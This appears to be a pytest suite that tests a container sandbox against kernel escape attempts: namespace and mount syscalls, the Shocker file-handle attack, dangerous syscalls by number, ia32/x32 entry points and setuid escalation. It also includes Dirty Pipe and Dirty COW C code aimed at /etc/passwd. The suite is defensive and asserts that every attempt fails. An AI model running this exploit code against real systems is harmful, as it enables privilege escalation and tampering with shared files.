"""At the kernel itself: system calls, entry points, socket families, files that sandboxes share."""

import os
import stat
import time
from pathlib import Path

import pytest

from conftest import WHO, attack, compiled, digest, host_pid, output
from harness import host

NEW_NAMESPACES = {"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000, "ipc": 0x8000000, "uts": 0x4000000, "cgroup": 0x2000000, "time": 0x80}


@pytest.mark.parametrize("user", WHO)
def test_new_namespaces_and_mounts(shared, user):
    """24. unshare and clone of every kind, also with high bits set, then mounts of what attackers like."""
    program = f"""
for name, flag in {NEW_NAMESPACES!r}.items():
    print(name, call(272, flag), call(272, flag | 1 << 40), *([call(56, flag | 17, 0, 0, 0, 0), call(56, flag | 17 | 1 << 40, 0, 0, 0, 0)] if name != "time" else []))
for kind in (b"tmpfs", b"overlay", b"fuse", b"nfs", b"proc", b"sysfs", b"cgroup2", b"bpf", b"debugfs", b"devtmpfs", b"ext4", b"9p", b"mqueue"):
    print(kind.decode(), call(165, b"x", b"/mnt", kind, 0, 0), call(430, kind, 0))
print("bind", call(165, b"/etc", b"/mnt", 0, 4096, 0), call(428, -100, b"/", 1), call(442, -100, b"/", 0, struct.pack("<4Q", 0, 1, 0, 0), 32), call(166, b"/proc", 2), call(166, b"/", 2))
"""
    for line in attack(shared, program, user=user).splitlines():
        name, *results = line.split()
        assert set(results) <= {"EPERM", "ENOSYS", "EINVAL"} and (results[0] != "EINVAL" or name == "time"), line


@pytest.mark.parametrize("user", WHO)
def test_clone3(shared, user):
    """25. clone3, whose arguments no filter can read."""
    program = """
for flags in (0x10000000, 0, 0x20000, 0x200000000):
    arguments = struct.pack("<11Q", flags, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    print(call(435, arguments, len(arguments)))
"""
    assert set(attack(shared, program, user=user).split()) == {"ENOSYS"}


@pytest.mark.parametrize("user", WHO)
def test_file_handles(shared, user):
    """27. Shocker: open_by_handle_at with a handle of the root's first inodes."""
    program = """
mount = ctypes.c_int()
handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + b"\\0" * 128)
raw(303, -100, b"/", handle, ctypes.byref(mount), 0)
root = os.open("/", os.O_RDONLY)
got = {call(304, root, handle, os.O_RDONLY)}
for inode in (2, 5, 128, 256):
    got.add(call(304, root, struct.pack("<IiIQ", 8, 1, inode, 0), os.O_RDONLY))
print(*got)
"""
    assert attack(shared, program, user=user) == "EPERM"


@pytest.mark.parametrize("user", WHO)
def test_keys(shared, user):
    """14., 28. The kernel's keyrings, which no namespace keeps apart."""
    program = """
print(*{call(248, b"user", b"k", b"v", 1, ring) for ring in (-1, -2, -3, -4, -5)} | {call(250, operation, -3, 0, 0, 0) for operation in range(0, 32)} | {call(249, b"user", b"k", 0, 0)})
print(attempt(lambda: open("/proc/keys").read()))
"""
    assert set(attack(shared, program, user=user).split()) <= {"EPERM", "EACCES", "ENOENT"}


DOORS = {
    "bpf": (321, "5, 0, 0"), "perf_event_open": (298, "0, 0, -1, -1, 0"), "userfaultfd": (323, "1"),
    "io_uring_setup": (425, "1, 0"), "io_uring_enter": (426, "0, 0, 0, 0, 0"), "io_uring_register": (427, "0, 0, 0, 0"),
    "io_setup": (206, "1, ctypes.byref(ctypes.c_ulong())"), "kexec_load": (246, "0, 0, 0, 0"), "kexec_file_load": (320, "0, 0, 0, 0, 0"),
    "init_module": (175, "0, 0, 0"), "finit_module": (313, "0, 0, 0"), "delete_module": (176, "0, 0"), "quotactl": (179, "0, 0, 0, 0"),
    "quotactl_fd": (443, "0, 0, 0, 0"), "swapon": (167, 'b"/x", 0'), "swapoff": (168, 'b"/x"'), "lookup_dcookie": (212, "0, 0, 0"),
    "vmsplice": (278, "1, 0, 0, 0"), "acct": (163, 'b"/tmp/a"'), "reboot": (169, "0xfee1dead, 672274793, 0, 0"), "syslog": (103, "3, 0, 0"),
    "settimeofday": (164, "0, 0"), "clock_settime": (227, "0, 0"), "adjtimex": (159, "0"), "iopl": (172, "3"), "ioperm": (173, "0, 1, 1"),
    "modify_ldt": (154, "0, 0, 0"), "mbind": (237, "0, 0, 0, 0, 0, 0"), "move_pages": (279, "0, 0, 0, 0, 0, 0"), "migrate_pages": (256, "0, 0, 0, 0"),
    "fanotify_init": (300, "0, 0"), "nfsservctl": (180, "0, 0, 0"), "uselib": (134, "0"), "ustat": (136, "0, 0"), "sysfs": (139, "0, 0, 0"),
    "mount_setattr": (442, "-1, 0, 0, 0, 0"), "fspick": (433, '-100, b"/", 0'), "fsmount": (432, "0, 0, 0"), "fsconfig": (431, "0, 0, 0, 0, 0"),
    "statmount": (457, "0, 0, 0, 0"), "listmount": (458, "0, 0, 0, 0"), "map_shadow_stack": (453, "0, 0, 0"), "lsm_set_self_attr": (460, "0, 0, 0, 0"),
    "vhangup": (153, ""), "sethostname": (170, 'b"x", 1'), "setdomainname": (171, 'b"x", 1'), "a number of the future": (600, ""),
}


@pytest.mark.parametrize("user", WHO)
def test_doors_of_the_kernel(shared, user):
    """29. bpf, perf, io_uring, userfaultfd, modules, swap and the like, by table."""
    program = "".join(f'print("{name}|" + call({number}, {arguments}))\n' if arguments else f'print("{name}|" + call({number}))\n' for name, (number, arguments) in DOORS.items())
    results = dict(line.split("|") for line in attack(shared, program, user=user).splitlines())
    assert len(results) == len(DOORS)
    assert {name: result for name, result in results.items() if result not in ("EPERM", "ENOSYS")} == {}


@pytest.mark.parametrize("user", WHO)
def test_socket_families_and_protocols(shared, user):
    """30. Every family, netlink and internet protocol; also by socketpair, and through AF_INET (SMC, MPTCP, SCTP)."""
    modules = loaded_modules()
    program = """
families, links, pairs, protocols = set(), set(), set(), set()
for family in range(0, 64):
    for kind in (1, 2, 3, 4, 5, 10):
        for protocol in (0, 1, 3, 6):
            if raw(41, family, kind, protocol) >= 0: families.add(family)
            if raw(53, family, kind, protocol, ctypes.create_string_buffer(8)) >= 0: pairs.add(family)
    os.closerange(3, 4096)
for protocol in range(0, 64):
    for kind in (2, 3):
        if raw(41, 16, kind, protocol) >= 0: links.add(protocol)
for family in (2, 10):
    for kind in (1, 2, 5, 6):
        for protocol in range(0, 300):
            if raw(41, family, kind, protocol) >= 0: protocols.add(protocol)
        os.closerange(3, 4096)
print(families - {1, 2, 10, 16}, pairs - {1}, links - {0, 4}, protocols - {0, 1, 6, 17, 58}, {1, 2, 10} <= families)
"""
    assert attack(shared, program, user=user) == "set() set() set() set() True"
    assert loaded_modules() <= modules, "the host loaded a module for a sandbox"


def loaded_modules():
    path = Path("/proc/modules")
    return {line.split()[0] for line in path.read_text().splitlines()} if path.exists() else set()


OTHER_ENTRANCES = r"""
#include <errno.h>
#include <stdio.h>
#include <unistd.h>
#include <sys/syscall.h>
static long i386(long nr, long a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(0L), "D"(0L) : "memory", "r8", "r9", "r10", "r11");
    return result;
}
int main(void) {
    /* mount, unshare, bpf, socketcall, getpid, clone, add_key, open_by_handle_at */
    int ia32[] = {21, 310, 357, 102, 20, 120, 286, 342};
    for (unsigned i = 0; i < sizeof ia32 / sizeof *ia32; i++) printf("ia32 %d %ld\n", ia32[i], i386(ia32[i], 0x10000000, 0, 0));
    int x32[] = {165, 272, 321, 39, 56, 512, 519, 545};
    for (unsigned i = 0; i < sizeof x32 / sizeof *x32; i++) {
        long result = syscall(0x40000000L | x32[i], 0x10000000L, 0, 0, 0, 0);
        printf("x32 %d %d\n", x32[i], result < 0 ? -errno : 0);
    }
    /* The kernel looks at the low half of the number. */
    long result = syscall(0x100000000L | 272, 0x10000000L);
    printf("high %d %d\n", 272, result < 0 ? -errno : 0);
    return 0;
}
"""


@pytest.mark.parametrize("user", WHO)
def test_other_entrances(shared, tmp_path, user):
    """31. The same calls as ia32 (`int 0x80`, socketcall), as x32, and with a number wider than 32 bits."""
    program = compiled(shared, OTHER_ENTRANCES, tmp_path)
    lines = output(shared, program, user=user).splitlines()
    if len(lines) < 9:
        assert "Segmentation" in "".join(lines) or not lines, "the kernel has no ia32 entrance and ends the program"
        pytest.skip("this kernel has no ia32 entrance")
    assert len(lines) == 17
    for line in lines:
        assert int(line.split()[-1]) in (-1, -38), line


DIRTY = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>
static void *map; static volatile int stop;
static void *drop(void *_) { while (!stop) madvise(map, 4096, MADV_DONTNEED); return 0; }
int main(int argc, char **argv) {
    int file = open(argv[1], O_RDONLY);
    /* Dirty Pipe: a pipe that was full once, one page of the file spliced in, then written over. */
    int p[2]; char page[4096]; memset(page, 'x', sizeof page);
    pipe(p);
    int size = fcntl(p[1], F_GETPIPE_SZ);
    for (int n = 0; n < size; n += 4096) write(p[1], page, 4096);
    for (int n = 0; n < size; n += 4096) read(p[0], page, 4096);
    loff_t at = 0;
    if (splice(file, &at, p[1], 0, 1, 0) == 1) write(p[1], "PWNED", 5);
    /* Dirty COW: a private mapping written through /proc/self/mem while its page is dropped. */
    map = mmap(0, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    pthread_t t; pthread_create(&t, 0, drop, 0);
    int mem = open("/proc/self/mem", O_RDWR); time_t end = time(0) + 1;
    while (time(0) <= end) { lseek(mem, (off_t)map, SEEK_SET); write(mem, "PWNED", 5); }
    stop = 1; pthread_join(t, 0);
    puts("tried");
    return 0;
}
"""


@pytest.mark.parametrize("user", WHO)
def test_writing_to_a_layer_that_others_see(sandboxes, neighbour, tmp_path, user):
    """32. Dirty Pipe and Dirty COW on a file of the read-only layer; and plain writes, as root."""
    sandbox = sandboxes()
    victim = "/etc/debian_version" if output(neighbour, "test -f /etc/debian_version && echo y") else "/etc/passwd"
    before = output(neighbour, f"sha256sum < {victim}")
    program = compiled(sandbox, DIRTY, tmp_path)
    assert output(sandbox, f"{program} {victim}", user=user) == "tried"
    assert output(sandbox, f"sha256sum < {victim}") == before
    output(sandbox, f"chmod 777 {victim}; echo PWNED > {victim}; setfattr -n trusted.overlay.opaque -v y /etc 2>/dev/null; true", user="root")
    assert output(neighbour, f"sha256sum < {victim}") == before
    assert output(sandboxes(), f"sha256sum < {victim}") == before


def test_becoming_root_by_a_file(shared):
    """33. A setuid file makes its caller root inside at most, which is nobody outside; nothing makes it more."""
    output(shared, "cp $(readlink -f $(command -v sleep)) /usr/bin/suid-sleep; chown root: /usr/bin/suid-sleep; chmod 6755 /usr/bin/suid-sleep", user="root")
    shared.commands.run("exec suid-sleep 987654", background=True, timeout=0)
    deadline = time.monotonic() + 5
    while not (pids := [p for p in host.processes("suid-sleep 987654") if host.status(p)["Name"].startswith("suid")]):
        assert time.monotonic() < deadline
        time.sleep(0.05)
    status = host.status(pids[0])
    assert all(int(uid) >= 1 << 30 for uid in status["Uid"].split() + status["Gid"].split()), status["Uid"]
    allowed = int(host.status(host_pid(shared, user="root"))["CapBnd"], 16)
    assert int(status["CapEff"], 16) & ~allowed == 0
    assert not allowed >> 21 & 1 and not allowed >> 19 & 1 and not allowed >> 12 & 1
    program = """
print(attempt(os.chown, "/usr/bin/suid-sleep", 65536, 0), attempt(os.chown, "/usr/bin/suid-sleep", 2**31, 0), attempt(os.setuid, 65536), attempt(os.setresuid, 100000, 0, 0))
print(attempt(os.setxattr, "/usr/bin/suid-sleep", "trusted.overlay.metacopy", b""), attempt(os.setxattr, "/usr/bin/suid-sleep", "trusted.x", b"x"), attempt(os.mknod, "/usr/bin/whiteout", 0o020600, 0))
"""
    ids, attributes = attack(shared, program).splitlines()
    assert set(ids.split()) == {"EINVAL"}
    assert set(attributes.split()) <= {"EPERM", "EOPNOTSUPP"}
    output(shared, "pkill suid-sleep; rm -f /usr/bin/suid-sleep", user="root")


def test_what_sandboxes_write_lies_out_of_reach_of_other_users_of_the_host():
    """33. A setuid file of root inside is one of root on the host's disk: no user may get at it there."""
    layers = Path(os.environ["SOULBOX_DATA_DIR"]) / "store/layers"
    assert stat.S_IMODE(layers.stat().st_mode) == 0o700 and layers.stat().st_uid == 0
    [store] = [line.split() for line in Path("/proc/self/mountinfo").read_text().splitlines() if line.split()[4] == str(layers.parent)]
    assert "nodev" in store[5].split(",")
